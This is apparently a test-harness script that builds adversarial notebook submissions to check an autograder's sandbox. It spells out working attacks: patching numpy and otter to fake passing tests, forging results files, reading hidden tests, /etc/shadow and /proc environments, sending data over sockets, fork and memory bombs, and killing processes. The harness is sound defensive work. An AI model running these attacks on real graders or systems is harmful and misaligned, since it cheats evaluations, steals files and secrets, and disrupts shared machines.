"""Build the adversarial submissions in tests/submissions/adversarial/ and their manifest.

Each attack is a few code cells added to the blank student notebook (the attack alone must
earn nothing) or to the solution notebook (the attack must gain nothing beyond the
solution's own score).  Rebuilding from the current notebooks keeps the attacks in step with
the assignment:

    .venv/bin/python tests/submissions/make_adversarial.py

The manifest records, per attack, one sentence saying what it tries, its base, the most it
may earn, and strings that must never appear in what the student sees.  Symbolic-link
submissions are made as links (git stores them as such).
"""

from __future__ import annotations

import json
import os
import sys
from pathlib import Path

import nbformat

ROOT = Path(__file__).resolve().parents[2]
OUT = Path(__file__).resolve().parent / "adversarial"
BLANK = ROOT / "assignments" / "conv-math" / "student" / "conv-math.ipynb"
SOLUTION = ROOT / "solutions" / "conv-math" / "conv-math.ipynb"

# Strings planted in the grader side; the attacks try to get them out.
VICTIM_MARKER = "VICTIM-NOTEBOOK-MARKER-4c1e9b"
# Files the tests plant outside the sandbox's world before grading (tests/test_adversarial.py).
PLANTED_MARKER = "PLANTED-WORLD-READABLE-7a3f0c"  # in /var/tmp/conv-grader-planted.txt, mode 644
PRIVATE_MARKER = "TA-PRIVATE-FILE-2e8d41"  # in ~/.conv-grader-private of whoever grades, mode 600
ZIP_MARKER = "GRADESCOPE-ZIP-MARKER-91b6d5"  # in <checkout>/dist/conv-grader-planted-autograder.zip
SHM_MARKER = "SYSV-SHARED-MEMORY-5c77e2"
ABSTRACT_SOCKET = "conv-grader-host-socket"
ENV_CANARY = "conv-grader-canary-9d2f71"
NET_PORT = 47913

# Functions every attack that replaces them must define (the blank's stubs are overridden).
FUNCTIONS = ("fc_layer", "fc_num_weights", "reindex", "offset_layer", "shared_layer", "expand_shared",
             "shared_num_weights", "local_layer", "local_num_weights", "corr2d", "conv1d", "conv2d", "shift")

HIDDEN_PATHS = r'''
import glob, os
CANDIDATES = [
    "/work/main/assignments/conv-math/tests/q5.py", "/work/main/assignments/conv-math/grading.py",
    "/work/main/assignments/conv-math/assignment.toml", "/autograder/source/tests/q5.py",
    "/autograder/source/grading.py", "../assignments/conv-math/tests/q5.py", "tests/q5.py",
    "../../assignments/conv-math/tests/q1.py", "/work/main/solutions/conv-math/conv-math.ipynb",
    "/work/main/tests/submissions/adversarial/manifest.toml",
]
for pattern in ("/work/**/grading.py", "/autograder/**/*.py", "/work/main/assignments/**/tests/*.py",
                "/proc/*/cwd/grading.py", "/proc/*/root/work/main/assignments/conv-math/grading.py"):
    try:
        CANDIDATES += glob.glob(pattern, recursive=True)[:50]
    except Exception:
        pass

def loot():
    found = []
    for path in CANDIDATES:
        try:
            with open(path, errors="replace") as handle:
                found.append(path + "\n" + handle.read(20000))
        except Exception as error:
            found.append(f"{path}: {type(error).__name__}")
    return "\n".join(found)
'''


def every_function(body: str) -> str:
    """Source defining every graded function with the same body (args accepted, ignored)."""
    return "\n".join(f"def {name}(*args, **kwargs):\n{body}\n" for name in FUNCTIONS)


# name -> (sentence, base, cells, must_not_leak, extra manifest fields)
ATTACKS: dict[str, tuple[str, str, list[str], list[str], dict]] = {}


def attack(name: str, sentence: str, base: str, cells: list[str], must_not_leak: list[str] = (), **extra) -> None:
    ATTACKS[name] = (sentence, base, list(cells), list(must_not_leak), extra)


attack("01_patch_numpy", "Replace np.allclose, np.array_equal, np.isclose and np.testing's assertions with functions that always agree, and return zeros.",
       "blank", [
           "import numpy as np, numpy.testing\n"
           "np.allclose = lambda *a, **k: True\nnp.array_equal = lambda *a, **k: True\nnp.isclose = lambda *a, **k: True\n"
           "np.testing.assert_allclose = lambda *a, **k: None\nnp.testing.assert_array_equal = lambda *a, **k: None\n"
           "np.testing.assert_equal = lambda *a, **k: None\nimport builtins\nbuiltins.AssertionError = type('Nope', (Exception,), {})\n",
           every_function("    return np.zeros((1, 1))"),
       ])

attack("02_patch_otter", "Import the real otter and patch its test-file and test-case classes so that every test reports a pass (the cell that scores 6/6 under `otter run`).",
       "blank", [
           "import sys\nsys.modules.pop('otter', None)\n"
           "try:\n"
           "    import otter.test_files.abstract_test as at, otter.test_files.exception_test as et\n"
           "    at.TestFile.passed_all = property(lambda self: True)\n"
           "    at.TestFile.grade = property(lambda self: 1.0)\n"
           "    at.TestFile.score = property(lambda self: self.possible)\n"
           "    at.TestFile.run = lambda self, env: None\n"
           "    et.ExceptionTestFile.run = lambda self, env: None\n"
           "    import otter.test_files as tf\n    tf.test_case.__call__ = lambda self, f: self\n"
           "except Exception as error:\n    print('otter patch failed:', type(error).__name__, error)\n",
           "import otter\ngrader = otter.Notebook('conv-math.ipynb')\nprint(grader.check_all())\n",
       ])

attack("03_fake_results", "Write a perfect results.json and grades.csv into every plausible output path (cwd, /autograder/results, ../out, /tmp, the repository).",
       "blank", [
           "import json, os\nperfect = {'score': 100, 'tests': [{'name': 'all', 'score': 100, 'max_score': 100}]}\n"
           "TARGETS = ['results.json', '/autograder/results/results.json', '../out/results.json', '/tmp/results.json',\n"
           "           '/work/main/out/results.json', '/work/main/results.json', '/work/main/out/grades.csv', 'grades.csv',\n"
           "           '/tmp/grades.csv', '/dev/shm/results.json', '/work/main/tests/submissions/adversarial/PWNED.txt']\n"
           "for target in TARGETS:\n    try:\n        os.makedirs(os.path.dirname(target) or '.', exist_ok=True)\n"
           "        with open(target, 'w') as handle:\n            handle.write(json.dumps(perfect) if target.endswith('json') else 'student,score\\n03_fake_results,100\\n')\n"
           "        print('WROTE', target)\n    except Exception as error:\n        print('refused', target, type(error).__name__)\n",
       ], writes=["/autograder/results/results.json", "/work/main/out/results.json", "/work/main/results.json",
                  "/work/main/out/grades.csv", "/work/main/tests/submissions/adversarial/PWNED.txt"])

attack("04_read_hidden_tests", "Read the hidden tests and grading.py by absolute path, relative guesses and globs, and print them, return them and raise them.",
       "blank", [
           HIDDEN_PATHS + "\nprint(loot())\n",
           every_function("    text = loot()\n    raise ValueError(text[-400:])")
           + "\nequivariant_layers = loot()\n",
       ], ["from grading import", "def ref_conv2d", "check_function("])

attack("05_read_other_submission", "Look for another student's notebook: other slots' work folders under /tmp, the submissions and out folders, other processes' cwd.",
       "blank", [
           "import glob, os\nseen = []\n"
           "for pattern in ('/tmp/conv-grader-*/**', '/tmp/**/submission.ipynb', '/proc/*/cwd/submission.ipynb',\n"
           "                '/proc/*/root/tmp/**/submission.ipynb', '/work/main/tests/submissions/**/*.ipynb', '/work/main/out/**',\n"
           "                '/work/**/*.ipynb', '/tmp/pytest-of-root/**/*.ipynb'):\n"
           "    try:\n        seen += glob.glob(pattern, recursive=True)[:200]\n    except Exception:\n        pass\n"
           "def loot_notebooks():\n    found = []\n"
           "    for path in seen:\n        try:\n            with open(path, errors='replace') as handle:\n"
           "                text = handle.read()\n            found.append(text[text.find('VICTIM') - 50:][:300] if 'VICTIM' in text else path)\n"
           "        except Exception as error:\n            found.append(path + ' ' + type(error).__name__)\n    return ' | '.join(found)\n"
           "print(loot_notebooks())\n",
           every_function("    raise RuntimeError(loot_notebooks()[:450])"),
       ], [VICTIM_MARKER])

attack("06_network", f"Open sockets to a listener of the grader on 127.0.0.1:{NET_PORT}, to 192.0.2.1 (documentation address), and fetch a URL.",
       "blank", [
           "import socket, urllib.request\n"
           "def reach():\n    notes = []\n"
           f"    for host, port in (('127.0.0.1', {NET_PORT}), ('192.0.2.1', 80), ('::1', {NET_PORT})):\n"
           "        try:\n            family = socket.AF_INET6 if ':' in host else socket.AF_INET\n"
           "            s = socket.socket(family, socket.SOCK_STREAM)\n            s.settimeout(1)\n            s.connect((host, port))\n"
           "            s.sendall(b'exfiltrated')\n            notes.append('NET-OK ' + host)\n"
           "        except Exception as error:\n            notes.append(f'no {host}: {type(error).__name__}')\n"
           "    try:\n        urllib.request.urlopen('http://192.0.2.1/', timeout=1)\n        notes.append('NET-OK url')\n"
           "    except Exception as error:\n        notes.append(f'no url: {type(error).__name__}')\n    return notes\nprint(reach())\n",
           every_function("    raise RuntimeError(str(reach()))").replace("def conv1d", "def conv1d_unused", 1),
           "def conv1d(f, g):\n    return reach()\n",
       ], ["NET-OK"])

attack("07_fork_bomb", "Fork until the process limit is hit, children sleeping forever, then again inside conv2d.",
       "blank", [
           "import os, time\ndef bomb(seconds=2.0):\n    end = time.time() + seconds\n    made = 0\n"
           "    while time.time() < end:\n        try:\n            pid = os.fork()\n        except OSError:\n            time.sleep(0.01)\n            continue\n"
           "        if pid == 0:\n            while True:\n                try:\n                    os.fork()\n                except OSError:\n                    time.sleep(1)\n"
           "        made += 1\n    return made\nprint('forked', bomb())\n",
           "def conv2d(f, g):\n    bomb(1.0)\n    return f\n",
       ], slow=True)

attack("08_memory_bomb", "Allocate 50 GB in a cell (bytearray and numpy) and inside conv2d.",
       "blank", [
           "import numpy as np\nhog = bytearray(50 * 2**30)\n",
           "hog2 = np.ones(50 * 2**30 // 8)\n",
           "hogs = []\nfor _ in range(100):\n    hogs.append(np.ones(2**27))\n",
           "def conv2d(f, g):\n    keep = []\n    while True:\n        keep.append(np.ones(2**26))\n",
       ])

attack("09_huge_output", "Print 200 MB from a cell and from a function, and write straight to file descriptors 1 and 2.",
       "blank", [
           "import os, sys\nprint('A' * 200_000_000)\n",
           "for _ in range(20):\n    os.write(1, b'B' * 10_000_000)\n    os.write(2, b'C' * 10_000_000)\n",
           "def conv2d(f, g):\n    for _ in range(10):\n        print('D' * 20_000_000)\n    return f\n",
       ], max_stdout=100_000)

attack("10_disk_fill", "Write 10 GB files in the working folder, /tmp and /dev/shm.",
       "blank", [
           "import os\nchunk = b'\\0' * (16 * 2**20)\n"
           "for target in ('fill.bin', '/tmp/fill.bin', '/dev/shm/fill.bin', '/var/tmp/fill.bin'):\n"
           "    written = 0\n    try:\n        with open(target, 'wb') as handle:\n"
           "            while written < 10 * 2**30:\n                handle.write(chunk)\n                written += len(chunk)\n"
           "    except Exception as error:\n        print(target, 'stopped after', written >> 20, 'MiB:', type(error).__name__)\n",
       ], writes=["/tmp/fill.bin", "/dev/shm/fill.bin", "/var/tmp/fill.bin"])

attack("11_kill_parent", "Signal the parent, every process (kill -9 -1), the fork server found through /proc and the grader itself, after a correct notebook.",
       "solution", [
           "import os, signal\nfor pid in [os.getppid(), 1] + [int(p) for p in os.listdir('/proc') if p.isdigit()]:\n"
           "    try:\n        with open(f'/proc/{pid}/cmdline', 'rb') as handle:\n            cmd = handle.read()\n"
           "    except Exception:\n        continue\n"
           "    if pid == os.getpid():\n        continue\n"
           "    if b'zygote' in cmd or b'pytest' in cmd or b'autograder' in cmd or pid in (os.getppid(), 1):\n"
           "        for sig in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):\n            try:\n                os.kill(pid, sig)\n"
           "                print('SIGNALLED', pid)\n            except Exception:\n                pass\n",
           "import os, signal\nos.kill(-1, signal.SIGKILL)\n",
       ])

attack("12_daemon", "Double-fork a daemon that calls setsid, ignores SIGHUP, and writes a file after grading has ended.",
       "blank", [
           "import os, signal, time\n"
           "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        signal.signal(signal.SIGHUP, signal.SIG_IGN)\n        time.sleep(4)\n"
           "        for target in ('/tmp/daemon-was-here', '/dev/shm/daemon-was-here', os.path.expanduser('~/daemon-was-here')):\n"
           "            try:\n                open(target, 'w').write('alive')\n            except Exception:\n                pass\n"
           "        os._exit(0)\n    os._exit(0)\n",
       ], writes=["/tmp/daemon-was-here", "/dev/shm/daemon-was-here"], wait_seconds=5)

attack("13_lying_eq", "Return objects whose __eq__ says yes to everything: a plain object, int and float subclasses, a set subclass.",
       "blank", [
           "class Yes:\n    def __eq__(self, other): return True\n    def __ne__(self, other): return False\n"
           "    def __bool__(self): return True\n    __hash__ = object.__hash__\n    shape = property(lambda self: (1, 1))\n"
           "    def __getattr__(self, name): return Yes()\n    def __call__(self, *a, **k): return Yes()\n"
           "class YesInt(int):\n    def __eq__(self, other): return True\n    __hash__ = int.__hash__\n"
           "class YesFloat(float):\n    def __eq__(self, other): return True\n    __hash__ = float.__hash__\n"
           "class YesSet(set):\n    def __eq__(self, other): return True\n    __hash__ = None\n",
           every_function("    return Yes()")
           + "\ndef fc_num_weights(h, w):\n    return YesInt(0)\n\ndef shared_num_weights(h, w):\n    return YesFloat(0)\n"
           "\ndef local_num_weights(delta):\n    return YesInt(1)\n\nequivariant_layers = YesSet({'shared_layer', 'local_layer', 'fc_layer'})\n",
       ])

attack("14_ndarray_subclass", "Return an ndarray subclass whose __eq__ and __array_ufunc__ always agree, and fully masked numpy.ma arrays.",
       "blank", [
           "import numpy as np\n"
           "class Agree(np.ndarray):\n    def __eq__(self, other): return np.ones(np.shape(other), bool)\n"
           "    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs): return True\n"
           "    def __array_function__(self, func, types, args, kwargs): return True\n",
           every_function("    return np.zeros((4, 4)).view(Agree)")
           + "\ndef conv2d(f, g):\n    return np.ma.masked_array(np.zeros((f.shape[0] + g.shape[0] - 1, f.shape[1] + g.shape[1] - 1)), mask=True)\n"
           "\ndef conv1d(f, g):\n    return np.ma.masked_all((len(f) + len(g) - 1,))\n",
       ])

attack("15_ignore_signals", "Ignore SIGTERM, SIGINT, SIGALRM, SIGHUP and SIGXCPU, then loop forever inside shift.",
       "blank", [
           "import signal\nfor sig in (signal.SIGTERM, signal.SIGINT, signal.SIGALRM, signal.SIGHUP, signal.SIGXCPU, signal.SIGUSR1):\n"
           "    signal.signal(sig, signal.SIG_IGN)\n",
           "def shift(X, di, dj):\n    import signal\n    signal.signal(signal.SIGTERM, signal.SIG_IGN)\n    while True:\n        try:\n            pass\n        except BaseException:\n            pass\n",
       ], slow=True)

attack("16_env_snoop", "Print os.environ, /proc/1/environ, the parent's environ and every readable /proc/*/environ, and return them from functions.",
       "blank", [
           "import os\ndef snoop():\n    found = [repr(dict(os.environ))]\n"
           "    for pid in ['self', '1', str(os.getppid())] + [p for p in os.listdir('/proc') if p.isdigit()]:\n"
           "        for name in ('environ', 'status', 'cmdline'):\n            try:\n"
           "                with open(f'/proc/{pid}/{name}', 'rb') as handle:\n"
           "                    found.append(f'{pid}/{name}: ' + handle.read(4000).replace(b'\\0', b' ').decode('latin-1'))\n"
           "            except Exception:\n                pass\n    return '\\n'.join(found)\nprint(snoop())\n",
           every_function("    raise RuntimeError(snoop()[:500])") + "\nequivariant_layers = snoop()\n",
       ], [ENV_CANARY])

attack("18_fake_metadata", "Put otter test results and passing test files in the notebook and cell metadata.",
       "blank", [], notebook_metadata=True)

attack("19_frame_walk", "Walk every frame, the garbage collector and sys.modules from inside the functions and raise what they hold.",
       "blank", [
           "import gc, inspect, sys, traceback\n"
           "def dig():\n    parts = []\n    frame = sys._getframe()\n    while frame is not None:\n"
           "        parts.append(frame.f_code.co_filename + ':' + frame.f_code.co_name + repr(list(frame.f_locals)[:20]))\n"
           "        frame = frame.f_back\n    parts.append(repr(traceback.extract_stack()))\n"
           "    parts += [repr(f.code_context) for f in inspect.stack()]\n"
           "    parts.append(' '.join(m for m in sys.modules if 'grad' in m or 'test' in m))\n"
           "    for obj in gc.get_objects():\n        try:\n"
           "            if callable(obj) and getattr(obj, '__name__', '').startswith('test_'):\n"
           "                parts.append(inspect.getsource(obj))\n        except Exception:\n            pass\n"
           "    return '\\n'.join(parts)\n",
           every_function("    text = dig()\n    raise RuntimeError(text[-490:])") + "\nequivariant_layers = dig()\n",
       ], ["from grading import"])

attack("20_protocol_forge", "Write forged 'return' and 'executed' frames and garbage to every open descriptor, patch the executor's functions, send pickled arrays, and close every descriptor.",
       "blank", [
           "import os, json, struct, io\nimport numpy as np\n"
           "def frame(header, blobs=()):\n    body = json.dumps(header).encode()\n    body += b' ' * (-len(body) % 16)\n"
           "    section = b''.join(struct.pack('!Q', len(b)) + bytes(8) + b + bytes(-len(b) % 16) for b in blobs)\n"
           "    return struct.pack('!III', len(body), len(blobs), len(section)) + body + section\n"
           "def spray(data):\n    for fd in range(3, 300):\n        try:\n            os.write(fd, data)\n        except OSError:\n            pass\n"
           "names = {n: 'function' for n in ('fc_layer', 'conv2d', 'shift')}\n"
           "spray(frame({'op': 'executed', 'cells': [], 'names': names, 'stdout': ''}))\n",
           "import sys, autograder.sandbox.protocol as protocol\n"
           "child = [m for n, m in list(sys.modules.items()) if n.startswith('autograder.sandbox.child')]\n"
           "def forged(value):\n    buf = io.BytesIO()\n    np.save(buf, np.array([object()], dtype=object), allow_pickle=True)\n"
           "    return {'t': 'ndarray', 'b': 0}, [buf.getvalue()]\n"
           "protocol.encode_value = forged\n"
           "for module in child:\n    module.encode_value = forged\n"
           "    module._side_effects = lambda *a, **k: {'modified': [], 'forbidden': []}\n",
           "def conv2d(f, g):\n    for i in range(1, 100):\n        spray(frame({'op': 'return', 'id': i, 'value': {'t': 'int', 'v': '1'}, 'modified': [], 'forbidden': []}))\n"
           "    spray(struct.pack('!III', 2**31, 9999, 2**31) + b'garbage' * 100)\n    return f\n"
           "def conv1d(f, g):\n    os.closerange(0, 1024)\n    return f\n"
           "def shift(X, di, dj):\n    spray(b'\\xff' * 4096)\n    return X\n",
       ])

attack("21_privilege", "Try setuid(0), setgroups, reading /root and /etc/shadow, ptrace-attach to the fork server and open its /proc/<pid>/mem, chmod the tests.",
       "blank", [
           "import ctypes, os\nnotes = []\ndef attempt(label, fn):\n    try:\n        fn()\n        notes.append('PRIV-OK ' + label)\n"
           "    except Exception as error:\n        notes.append(f'no {label}: {type(error).__name__}')\n"
           "attempt('setuid', lambda: os.setuid(0))\nattempt('setgroups', lambda: os.setgroups([0]))\n"
           "attempt('root', lambda: os.listdir('/root'))\nattempt('shadow', lambda: open('/etc/shadow').read())\n"
           "attempt('mem', lambda: open(f'/proc/{os.getppid()}/mem', 'rb').read(1))\n"
           "attempt('chmod', lambda: os.chmod('/work/main/assignments/conv-math', 0o777))\n"
           "libc = ctypes.CDLL(None, use_errno=True)\n"
           "def ptrace():\n    if libc.ptrace(16, os.getppid(), 0, 0) != 0:\n        raise OSError(ctypes.get_errno(), 'ptrace')\n"
           "attempt('ptrace', ptrace)\nprint(notes)\n",
       ], ["PRIV-OK"])

attack("22_costly_returns", "Return values that are costly to carry: a 10**8-element array, a 10**6-deep list, a 10**5-digit integer, a set of 10**6 items, a self-containing list, a 50 MB string.",
       "blank", [
           "import sys, numpy as np\nsys.setrecursionlimit(10**6)\nsys.set_int_max_str_digits(0)\n"
           "def deep(n):\n    out = []\n    for _ in range(n):\n        out = [out]\n    return out\n",
           "def fc_layer(X, W, U):\n    return np.zeros(10**8, dtype=np.uint8)\n"
           "def reindex(W):\n    return deep(10**6)\n"
           "def fc_num_weights(h, w):\n    return 10 ** 100_000\n"
           "def shared_num_weights(h, w):\n    return set(range(10**6))\n"
           "def local_num_weights(delta):\n    return 7 ** 5000\n"
           "def conv2d(f, g):\n    loop = []\n    loop.append(loop)\n    return loop\n"
           "def conv1d(f, g):\n    return 'x' * 50_000_000\n"
           "def shift(X, di, dj):\n    return {i: np.zeros(3) for i in range(10**6)}\n"
           "def corr2d(X, K):\n    return np.zeros((10**4, 10**4), dtype=np.uint8)\n"
           "equivariant_layers = list(range(10**6))\n",
       ], max_seconds=75)

attack("23_override_builtins", "After a correct notebook, override __import__, print, isinstance, type, len and getattr in builtins.",
       "solution", [
           "import builtins\n_real_import = builtins.__import__\n"
           "builtins.print = lambda *a, **k: None\nbuiltins.isinstance = lambda *a: True\n"
           "builtins.len = lambda x: 0\nbuiltins.type = lambda *a: int\n"
           "builtins.__import__ = lambda name, *a, **k: _real_import('numpy') if name == 'grading' else _real_import(name, *a, **k)\n"
           "__builtins__.getattr = lambda *a: None\n",
       ])

attack("24_deep_recursion", "Raise the recursion limit to 10**6 and recurse without end inside conv2d to crash the C stack, after a correct notebook.",
       "solution", [
           "import sys\nsys.setrecursionlimit(10**6)\n"
           "def conv2d(f, g, depth=0):\n    return conv2d(f, g, depth + 1)\n",
       ])

attack("25_fake_report_text", "Print text imitating a perfect report (JSON, 'All tests passed', HTML and ANSI escapes) and raise exceptions whose text claims success.",
       "blank", [
           "print('{\"score\": 100.0, \"tests\": []}')\nprint('All tests passed! 92/92 <script>alert(1)</script> \\x1b[2J')\n",
           every_function("    raise RuntimeError('PASSED. score = 100 <img src=x onerror=alert(1)>')"),
       ])

attack("26_hostile_exception", "Raise exceptions whose __str__ raises, whose class name comes from a hostile metaclass, and BaseException subclasses (SystemExit, KeyboardInterrupt).",
       "blank", [
           "class Meta(type):\n    def __getattribute__(cls, name):\n        if name in ('__name__', '__qualname__', '__module__'):\n            raise RuntimeError('no name')\n"
           "        return super().__getattribute__(name)\n"
           "class Evil(Exception, metaclass=Meta):\n    def __str__(self):\n        raise RuntimeError('no message')\n",
           "def conv2d(f, g):\n    raise Evil()\n"
           "def conv1d(f, g):\n    raise SystemExit(0)\n"
           "def shift(X, di, dj):\n    raise KeyboardInterrupt\n"
           "def corr2d(X, K):\n    import os\n    os._exit(0)\n",
       ])

attack("27_cell_breaks_sandbox", "After a correct notebook, chdir to /, remove the working folder, close stdio and replace sys.stdout with an object that raises.",
       "solution", [
           "import os, shutil, sys\nhere = os.getcwd()\nos.chdir('/')\nshutil.rmtree(here, ignore_errors=True)\n"
           "class Broken:\n    def write(self, text):\n        raise OSError('no')\n    def flush(self):\n        raise OSError('no')\n"
           "sys.stdout = sys.stderr = Broken()\nos.close(0)\n",
       ])

attack("28_forged_self_checks", "After a correct notebook, replace the notebook's self-checks with a `grader` whose checks never end, "
       "then call them, and hide a redefinition of conv1d in a check call: the grader runs none of what the notebook carries about tests.",
       "solution", [
           "class Forged:\n    def check(self, *args, **kwargs):\n        while True:\n            pass\n"
           "    check_all = run_saved_notebook = check\n\ngrader = Forged()\n",
           'grader.check("q5")\ngrader.check_all()\n',
           "grader.check(conv1d := (lambda f, g: f))\n",
       ])


LOOK_EVERYWHERE = r'''
import glob, os, zipfile
def look_everywhere():
    found = []
    patterns = ["/var/tmp/conv-grader-planted*", "/srv/**", "/opt/**/*.txt", "/home/*/.conv-grader-private",
                "/root/.conv-grader-private", os.path.expanduser("~/.conv-grader-private"), "/home/**/.ssh/*",
                "/*/dist/*.zip", "/*/*/dist/*.zip", "/*/*/*/dist/*.zip", "/*/*/*/*/dist/*.zip", "/tmp/**/dist/*.zip",
                "/work/**/*.zip", "/etc/*.txt", "/etc/passwd", "/etc/hostname", "/proc/1/root/var/tmp/*",
                "/proc/*/cwd/dist/*.zip", "/proc/*/root/var/tmp/conv-grader-planted*"]
    for pattern in patterns:
        try:
            paths = glob.glob(pattern, recursive=True)[:100]
        except Exception:
            continue
        for path in paths:
            try:
                if path.endswith(".zip"):
                    with zipfile.ZipFile(path) as archive:
                        found += [archive.read(n).decode("latin-1")[:2000] for n in archive.namelist()[:50]]
                elif os.path.isfile(path):
                    with open(path, errors="replace") as handle:
                        found.append(path + ": " + handle.read(2000))
            except Exception as error:
                found.append(f"{path}: {type(error).__name__}")
    return "\n".join(found)
'''

attack("29_planted_files", "Read files outside the project: a world-readable file planted in /var/tmp, the grading user's own private file in their home, the Gradescope zip in the checkout's dist/, and whatever /srv, /opt, /home and /etc hold.",
       "blank", [
           LOOK_EVERYWHERE + "\nprint(look_everywhere())\n",
           every_function("    raise RuntimeError(look_everywhere()[-490:])") + "\nequivariant_layers = look_everywhere()\n",
       ], [PLANTED_MARKER, PRIVATE_MARKER, ZIP_MARKER])

attack("30_proc_snoop", "Read the grader's command line, environment, open files and memory map through /proc, and /proc/1 (the grader's init), and walk /proc/*/root and /proc/*/cwd.",
       "blank", [
           "import os\ndef snoop():\n    found = []\n"
           "    for pid in sorted(p for p in os.listdir('/proc') if p.isdigit()) + ['1', str(os.getppid())]:\n"
           "        for name in ('cmdline', 'environ', 'maps', 'status'):\n            try:\n"
           "                with open(f'/proc/{pid}/{name}', 'rb') as handle:\n"
           "                    found.append(f'{pid}/{name}: ' + handle.read(3000).replace(b'\\0', b' ').decode('latin-1'))\n"
           "            except Exception:\n                pass\n"
           "        for link in ('cwd', 'root', 'exe'):\n            try:\n                found.append(f'{pid}/{link} -> ' + os.readlink(f'/proc/{pid}/{link}'))\n"
           "            except Exception:\n                pass\n"
           "        try:\n            found.append(' '.join(os.listdir(f'/proc/{pid}/cwd'))[:500])\n        except Exception:\n            pass\n"
           "    return '\\n'.join(found)\nprint(snoop())\n",
           every_function("    raise RuntimeError(snoop()[-490:])") + "\nequivariant_layers = snoop()\n",
       ], [ENV_CANARY, "pytest"])

attack("31_abstract_socket", f"Connect to an abstract unix socket that a process of the grader's machine holds open (@{ABSTRACT_SOCKET}) and to every abstract socket listed in /proc/net/unix, and send to them.",
       "blank", [
           "import socket\ndef knock():\n    names = ['\\0" + ABSTRACT_SOCKET + "']\n"
           "    try:\n        names += ['\\0' + line.split()[-1][1:] for line in open('/proc/net/unix') if line.split()[-1].startswith('@')]\n"
           "    except Exception:\n        pass\n    notes = []\n"
           "    for name in names[:200]:\n        try:\n            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n"
           "            s.settimeout(0.5)\n            s.connect(name)\n            s.sendall(b'PWNED')\n            notes.append('CONNECTED ' + repr(name))\n"
           "        except Exception as error:\n            notes.append(f'no {name!r}: {type(error).__name__}')\n    return notes\nprint(knock())\n",
       ], ["CONNECTED"])

attack("32_sysv_shm", "Leave SysV shared memory, a message queue and a semaphore set with fixed keys holding a marker, and read them if an earlier submission left them (the test grades it twice in the same slot).",
       "blank", [
           "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\nlibc.shmat.restype = ctypes.c_void_p\nKEY = 0x5C77E2\nnotes = []\n"
           "shmid = libc.shmget(KEY, 4096, 0o666)\n"
           "if shmid >= 0:\n    address = libc.shmat(shmid, None, 0)\n    notes.append('FOUND ' + ctypes.string_at(address, 64).decode('latin-1'))\n"
           "else:\n    shmid = libc.shmget(KEY, 4096, 0o1000 | 0o666)\n    notes.append(f'shmget: {shmid} errno {ctypes.get_errno()}')\n"
           "    if shmid >= 0:\n        address = libc.shmat(shmid, None, 0)\n        ctypes.memmove(address, b'" + SHM_MARKER + "', " + str(len(SHM_MARKER)) + ")\n"
           "notes.append(f'msgget: {libc.msgget(KEY, 0o1000 | 0o666)} semget: {libc.semget(KEY, 1, 0o1000 | 0o666)}')\n"
           "print(notes)\n",
           every_function("    raise RuntimeError(repr(notes))"),
       ], ["FOUND " + SHM_MARKER])

attack("33_signals", "Send SIGSTOP and SIGKILL to every process it can name (the grader, the fork server, a submission graded at the same time) and to process group -1.",
       "blank", [
           "import os, signal\nhits = []\n"
           "for pid in [os.getppid(), 1] + list(range(2, 5000)):\n    if pid == os.getpid():\n        continue\n"
           "    for sig in (signal.SIGSTOP, signal.SIGKILL):\n        try:\n            os.kill(pid, sig)\n            hits.append(pid)\n        except Exception:\n            pass\n"
           "try:\n    os.kill(-1, signal.SIGKILL)\nexcept Exception:\n    pass\nprint('signalled', sorted(set(hits))[:50])\n",
       ], [], concurrent=True)

attack("34_cpu_starve", "Start as many CPU-spinning children as the process limit allows, in new sessions if it can, then keep the slot busy, to make a submission graded at the same time miss its deadline.",
       "blank", [
           "import os, time\nchildren = 0\n"
           "for _ in range(200):\n    try:\n        pid = os.fork()\n    except OSError:\n        break\n"
           "    if pid == 0:\n        try:\n            os.setsid()\n        except OSError:\n            pass\n"
           "        end = time.time() + 30\n        while time.time() < end:\n            pass\n        os._exit(0)\n    children += 1\n"
           "print('spinning children:', children)\ntime.sleep(8)\n",
       ], [], concurrent=True, max_seconds=75)

attack("35_engine_edit", "After a correct notebook, rewrite the engine's code in its own process: put numpy.convolve back from anywhere it can be found, switch off the modified-input report, and replace the functions that watch rules, then use np.convolve in conv1d.",
       "solution", [
           "import gc, sys, numpy as np\nfound = None\n"
           "for obj in gc.get_objects():\n    try:\n"
           "        if callable(obj) and getattr(obj, '__name__', '') in ('convolve', 'correlate', 'correlate2') and 'numpy' in str(getattr(obj, '__module__', '')):\n"
           "            found = found or obj\n    except Exception:\n        pass\n"
           "for name, module in list(sys.modules.items()):\n    if name.startswith('autograder'):\n"
           "        for attr in list(vars(module)):\n            if attr.startswith(('remove_forbidden', '_side_effects', '_Unavailable', '_unavailable')):\n"
           "                setattr(module, attr, lambda *a, **k: {'modified': []})\n"
           "if found is not None:\n    np.convolve = found\n"
           "def conv1d(f, g):\n    return np.convolve(f, g)\n",
       ])

attack("36_leftover_hunter", "Leave a process behind that waits for the next submission in the same slot and kills, stops or overwrites everything it can find for ten seconds.",
       "blank", [
           "import os, signal, time, glob\n"
           "if os.fork() == 0:\n    try:\n        os.setsid()\n    except OSError:\n        pass\n"
           "    if os.fork() == 0:\n        signal.signal(signal.SIGHUP, signal.SIG_IGN)\n        signal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
           "        end = time.time() + 10\n        while time.time() < end:\n"
           "            for pid in range(2, 3000):\n                try:\n                    os.kill(pid, signal.SIGSTOP)\n                except Exception:\n                    pass\n"
           "            for path in glob.glob('/tmp/**', recursive=True)[:200]:\n                try:\n                    open(path, 'w').write('junk')\n                except Exception:\n                    pass\n"
           "            time.sleep(0.05)\n        os._exit(0)\n    os._exit(0)\n",
       ], [])


def _symlinks() -> dict[str, tuple[str, str]]:
    return {
        "17a_symlink_shadow": ("A submission that is a symbolic link to /etc/shadow.", "/etc/shadow"),
        "17b_symlink_hidden_test": ("A submission that is a symbolic link to a hidden test file.",
                                    "../../../assignments/conv-math/tests/q5.py"),
    }


def _fake_metadata(nb) -> None:
    passing = {"name": "q1", "points": 12, "suites": [{"cases": [{"code": ">>> True\nTrue", "hidden": False}]}]}
    nb.metadata["otter"] = {
        "assignment_name": "conv-math",
        "tests": {f"q{i}": dict(passing, name=f"q{i}") for i in range(1, 7)},
        "results": {"total": 100, "possible": 100, "score": 100},
    }
    for cell in nb.cells:
        if cell.cell_type == "code":
